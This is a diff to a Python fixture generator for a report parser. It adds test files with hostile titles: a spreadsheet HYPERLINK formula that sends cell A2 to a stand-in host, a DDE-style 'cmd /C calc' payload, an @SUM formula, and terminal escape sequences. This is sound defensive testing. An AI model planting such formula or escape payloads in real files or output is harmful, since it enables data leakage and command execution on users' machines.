@@ -79,6 +79,22 @@ def long_table(rows: int = 10_000) -> bytes:
     return ("\n".join(lines) + "\n\n\n二、评价结论\n正文。\n").encode()
 
 
+BODY = "一、基本情况\n本项目预算100万元。\n二、评价结论\n总分90分，等级为优。\n"
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A2,"某县2023年度项目绩效评价报告")'
+
+
+def formula_title() -> bytes:
+    """Issue 18, class 1: a report whose title is a spreadsheet formula."""
+    return (FORMULA + "\n" + BODY).encode()
+
+
+def control_title() -> bytes:
+    """BEL, ESC (a terminal colour sequence) and C1 CSI in the title and the text."""
+    return ("<html><body><h1>某县2023年度项目绩效评价报告&#7;&#x1b;[31m红&#x9b;2J</h1>"
+            "<h2>一、基本情况</h2><p>-2+3+cmd|' /C calc'!A0 本项目预算100万元。&#x1b;[2J</p>"
+            "<h2>二、评价结论</h2><p>@SUM(1,1) 总分90分。</p></body></html>").encode()
+
+
 def main() -> None:
     if OUT.exists():
         shutil.rmtree(OUT)
@@ -138,6 +154,9 @@ def main() -> None:
     put("no_headings.txt", ("本项目资金使用规范，绩效目标基本实现。" * 20 + "\n").encode() * 5,
         {"result": {"sections": 0}})
     put("wrong_extension.docx", SEED.read_bytes()[:3000], {"error": "corrupt"})
+    # issue 18 (hostile input, round two)
+    put("formula_title.txt", formula_title(), {"result": {"sections": 2}})
+    put("control_chars_title.html", control_title(), {"result": {"sections": 2}})
     (OUT / "expected.json").write_text(json.dumps(expected, ensure_ascii=False, indent=1) + "\n",
                                        encoding="utf-8")
     print(f"wrote {len(expected)} files to {OUT}")
